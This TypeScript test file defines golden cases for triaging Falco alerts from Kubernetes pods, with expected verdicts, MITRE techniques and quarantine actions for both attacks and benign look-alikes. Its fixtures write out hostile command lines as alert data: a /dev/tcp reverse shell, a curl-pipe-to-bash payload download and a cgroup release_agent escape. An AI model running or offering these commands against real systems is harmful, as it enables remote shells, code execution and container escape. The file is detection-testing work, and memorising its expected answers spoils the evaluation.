import type { AlertSpec, GoldenCase } from '../case.ts';

const STORY = 'local/sandbox/scenarios/exec-into-pod/webhooks';
const SHELL = `${STORY}/terminal-shell.json`;
const SHADOW = `${STORY}/read-shadow.json`;
const EXEC = `${STORY}/k8s-audit-exec.json`;
const PUSH = 'test/fixtures/falco/push';
const POD = 'prod-eks/catalog/search-5f8d7c9b6c-q4w8z';

/** An event of the stable rule set over the container of the story. */
const event = (
  rule: string,
  priority: string,
  process: {
    readonly name: string;
    readonly path: string;
    readonly line: string;
    readonly parent: string;
    readonly parentPath: string;
    readonly parentLine?: string;
    readonly tty?: number;
  },
  more: {
    readonly tags: readonly string[];
    readonly fields?: Readonly<Record<string, unknown>>;
    readonly uuid: string;
  },
): AlertSpec => ({
  file: SHELL,
  change: {
    uuid: more.uuid,
    rule,
    priority,
    output: `${rule} (process=${process.name} command=${process.line})`,
    tags: more.tags,
    output_fields: {
      'proc.name': process.name,
      'proc.exepath': process.path,
      'proc.cmdline': process.line,
      'proc.pname': process.parent,
      'proc.pexepath': process.parentPath,
      'proc.pcmdline': process.parentLine ?? process.parent,
      'proc.tty': process.tty ?? 0,
      ...more.fields,
    },
  },
});

/** Falco: events of its stable rules, one published by its makers, the others constructed (SOURCES.md). */
export const FALCO: readonly GoldenCase[] = [
  {
    id: 'falco-exec-and-shadow',
    title: 'somebody opens a shell in a pod with the deploy account and reads the password file',
    source: 'falco',
    alerts: [{ file: EXEC }, { file: SHELL }, { file: SHADOW }],
    context: { pod: { tokenMounted: true, role: 'view', serviceAccount: 'search', replicas: 3, root: true } },
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: ['high', 'critical'],
      techniques: ['T1609', 'T1059.004', 'T1003.008'],
      acceptableTechniques: ['T1059', 'T1552.001', 'T1555', 'T1003', 'T1078', 'T1552'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.rotate-credentials@*'],
      spawned: { process: '/usr/bin/cat', by: ['/usr/bin/bash', 'runc'] },
      support: [{ says: /\/etc\/shadow/, cites: ['process:/etc/shadow'] }],
    },
  },
  {
    id: 'falco-webhook-shell',
    title: 'the same shell by a webhook, which only a shared secret vouches for',
    source: 'falco',
    alerts: [{ file: SHELL, channel: 'webhook' }],
    context: { pod: { tokenMounted: true } },
    expected: {
      verdict: 'undetermined',
      severity: ['low', 'medium'],
      abstain: true,
      acceptableTechniques: ['T1059', 'T1059.004', 'T1609'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/bin/bash', by: ['/usr/bin/runc'] },
    },
  },
  {
    id: 'falco-terminal-shell-published',
    title: 'a shell with a terminal in a pod of the default namespace, as published by the makers',
    source: 'falco',
    alerts: [{ file: `${PUSH}/terminal-shell-in-container.json` }],
    context: {},
    expected: {
      verdict: 'suspicious',
      severity: ['medium', 'critical'],
      techniques: ['T1609', 'T1059.004'],
      may: ['kubernetes.quarantine-pod@*'],
      spawned: { process: 'sh', by: ['runc'] },
    },
  },
  {
    id: 'falco-audit-exec-published',
    title: 'kubernetes-admin runs cat in a pod; nothing but the audit record is known',
    source: 'falco',
    alerts: [{ file: `${PUSH}/k8s-audit-attach-exec.json` }],
    context: {},
    expected: {
      verdict: 'suspicious',
      acceptable: ['undetermined'],
      severity: ['low', 'medium'],
      techniques: ['T1609'],
      acceptableTechniques: ['T1078'],
      support: [{ says: /kubernetes-admin/, cites: ['api-call:kubernetes-admin', 'alert:kubernetes-admin'] }],
    },
  },
  {
    id: 'falco-redirect-shell',
    title: 'standard output of a shell below the service is bound to a connection',
    source: 'falco',
    alerts: [
      event(
        'Redirect STDOUT/STDIN to Network Connection in Container',
        'Critical',
        {
          name: 'bash',
          path: '/usr/bin/bash',
          line: 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
          parent: 'java',
          parentPath: '/usr/bin/java',
          parentLine: 'java -jar search.jar',
        },
        { tags: ['container', 'T1059', 'mitre_execution'], uuid: 'f0000000-0000-4000-8000-000000000001' },
      ),
    ],
    context: {
      vulnerabilities: [
        {
          cve: 'CVE-2021-44228',
          package: 'log4j-core',
          type: 'jar',
          version: '2.14.1',
          fixedIn: '2.15.0',
          cvss: 10,
          vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
          wild: true,
          remote: true,
        },
      ],
      knowledge: [{ cve: 'CVE-2021-44228', kev: '2021-12-10' }],
      pod: { service: 'LoadBalancer' },
    },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1059.004', 'T1190'],
      acceptableTechniques: ['T1059', 'T1095', 'T1571'],
      cves: [{ cve: 'CVE-2021-44228', relevance: 'likely_exploited' }],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.update-image@*'],
      spawned: { process: '/usr/bin/bash', by: ['/usr/bin/java'] },
    },
  },
  {
    id: 'falco-release-agent',
    title: 'the release agent of a control group is written in a privileged container',
    source: 'falco',
    alerts: [
      event(
        'Detect release_agent File Container Escapes',
        'Critical',
        {
          name: 'sh',
          path: '/bin/sh',
          line: 'sh -c echo /cmd > /tmp/cgrp/release_agent',
          parent: 'python3',
          parentPath: '/usr/bin/python3',
          parentLine: 'python3 worker.py',
        },
        { tags: ['container', 'T1611', 'mitre_privilege_escalation'], uuid: 'f0000000-0000-4000-8000-000000000002' },
      ),
    ],
    context: { pod: { privileged: true, root: true, tokenMounted: true } },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1611', 'T1059.004'],
      acceptableTechniques: ['T1059'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.rotate-credentials@*'],
      spawned: { process: '/bin/sh', by: ['/usr/bin/python3'] },
    },
  },
  {
    id: 'falco-dropped-binary',
    title: 'a program that is not part of the image runs from a writable directory',
    source: 'falco',
    alerts: [
      event(
        'Drop and execute new binary in container',
        'Critical',
        {
          name: 'kdevtmpfsi',
          path: '/tmp/kdevtmpfsi',
          line: '/tmp/kdevtmpfsi',
          parent: 'sh',
          parentPath: '/bin/sh',
          parentLine: 'sh -c curl -s http://203.0.113.20/d.sh | bash',
        },
        { tags: ['container', 'T1105', 'mitre_persistence'], uuid: 'f0000000-0000-4000-8000-000000000003' },
      ),
    ],
    context: { connections: [['203.0.113.20', 80]], pod: {} },
    expected: {
      verdict: 'malicious',
      severity: ['high', 'critical'],
      techniques: ['T1496.001', 'T1105', 'T1059.004'],
      acceptableTechniques: ['T1496', 'T1059'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      spawned: { process: '/tmp/kdevtmpfsi', by: ['/bin/sh'] },
    },
  },
  {
    id: 'falco-sre-debug',
    title: 'look-alike: an engineer on call debugs a pod within an announced change',
    source: 'falco',
    lookAlike: true,
    alerts: [
      {
        file: EXEC,
        change: {
          output:
            '22:41:17.905118000: Notice Attach/Exec to pod (user=sre-oncall@example.com pod=search-5f8d7c9b6c-q4w8z resource=pods ns=catalog action=exec command=bash)',
          output_fields: { 'ka.user.name': 'sre-oncall@example.com' },
        },
      },
      { file: SHELL },
    ],
    context: {
      pod: {
        revision: {
          minutesBefore: 8,
          cause: 'CHG-4711: raise heap, sre-oncall debugs start-up',
          from: '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/search:3.8.0',
        },
        replicas: 3,
      },
      past: [{ verdict: 'suspicious', outcome: 'rejected' }],
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'medium'],
      techniques: ['T1609'],
      acceptableTechniques: ['T1059', 'T1059.004', 'T1078'],
      // Whether the pod is cut off is the approver's matter, not forbidden: that the shell was announced stands only in text
      // that whoever deploys can write, the same two alerts are how the attack of falco-exec-and-shadow begins, and an
      // incident is analysed once, so that what follows within its window would find nothing proposed.
      may: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/bin/bash', by: ['/usr/bin/runc'] },
    },
  },
  {
    id: 'falco-log-shipper',
    title: 'look-alike: the log shipper reads host logs and sends them where it always does',
    source: 'falco',
    lookAlike: true,
    alerts: [
      event(
        'Read sensitive file untrusted',
        'Warning',
        {
          name: 'fluent-bit',
          path: '/fluent-bit/bin/fluent-bit',
          line: 'fluent-bit -c /fluent-bit/etc/fluent-bit.conf',
          parent: 'containerd-shim',
          parentPath: '/usr/bin/containerd-shim',
        },
        {
          tags: ['container', 'filesystem', 'T1555', 'mitre_credential_access'],
          fields: { 'fd.name': '/var/log/pods/a.log' },
          uuid: 'f0000000-0000-4000-8000-000000000004',
        },
      ),
    ],
    context: {
      connections: [['198.51.100.80', 443]],
      intel: [
        {
          indicator: '198.51.100.80',
          kind: 'ip',
          confidence: 2,
          verdict: 'harmless',
          detail: 'log service of the company',
        },
      ],
      pod: { controller: 'DaemonSet', hostPaths: ['/var/log'] },
      anomalies: [{ dimension: 'process', value: '/fluent-bit/bin/fluent-bit', new: false }],
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'high'],
      acceptableTechniques: ['T1555', 'T1005'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/fluent-bit/bin/fluent-bit', by: ['/usr/bin/containerd-shim'] },
    },
  },
  {
    id: 'falco-package-manager',
    title: 'look-alike: apt updates its lists in a build container',
    source: 'falco',
    lookAlike: true,
    alerts: [
      event(
        'Launch Package Management Process in Container',
        'Error',
        {
          name: 'apt-get',
          path: '/usr/bin/apt-get',
          line: 'apt-get update',
          parent: 'sh',
          parentPath: '/bin/sh',
          parentLine: 'sh /build.sh',
        },
        { tags: ['container', 'process', 'mitre_persistence', 'T1505'], uuid: 'f0000000-0000-4000-8000-000000000005' },
      ),
    ],
    context: { pod: { controller: 'Job', labels: { role: 'image-build' } }, names: ['deb.example.org'] },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'high'],
      acceptableTechniques: ['T1505', 'T1059', 'T1059.004', 'T1072', 'T1105'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/bin/apt-get', by: ['/bin/sh'] },
    },
  },
  {
    id: 'falco-load-test',
    title: 'look-alike: a load generator opens many connections to the own service',
    source: 'falco',
    lookAlike: true,
    alerts: [
      event(
        'Unexpected outbound connection destination',
        'Notice',
        {
          name: 'k6',
          path: '/usr/bin/k6',
          line: 'k6 run --vus 500 /scripts/checkout.js',
          parent: 'tini',
          parentPath: '/usr/bin/tini',
        },
        { tags: ['container', 'network', 'mitre_command_and_control'], uuid: 'f0000000-0000-4000-8000-000000000006' },
      ),
    ],
    context: {
      connections: [['10.100.12.8', 8080]],
      pod: { controller: 'Job', revision: { minutesBefore: 5, cause: 'weekly load test' } },
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'medium'],
      acceptableTechniques: ['T1498', 'T1499'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/bin/k6', by: ['/usr/bin/tini'] },
    },
  },
  {
    id: 'falco-scanner',
    title: 'look-alike: the vulnerability scanner of the company reads package databases in a pod',
    source: 'falco',
    lookAlike: true,
    alerts: [
      event(
        'Search Private Keys or Passwords',
        'Warning',
        {
          name: 'trivy',
          path: '/usr/local/bin/trivy',
          line: 'trivy rootfs --scanners vuln,secret /host',
          parent: 'scan-job',
          parentPath: '/app/scan-job',
        },
        {
          tags: ['container', 'process', 'filesystem', 'T1552.001', 'mitre_credential_access'],
          uuid: 'f0000000-0000-4000-8000-000000000007',
        },
      ),
    ],
    context: {
      pod: { controller: 'Job', hostPaths: ['/'], labels: { team: 'security-team' } },
      past: [{ verdict: 'suspicious', outcome: 'advice-only' }],
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'high'],
      acceptableTechniques: ['T1552.001', 'T1552', 'T1083', 'T1552.004'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/local/bin/trivy', by: ['/app/scan-job'] },
    },
  },
];
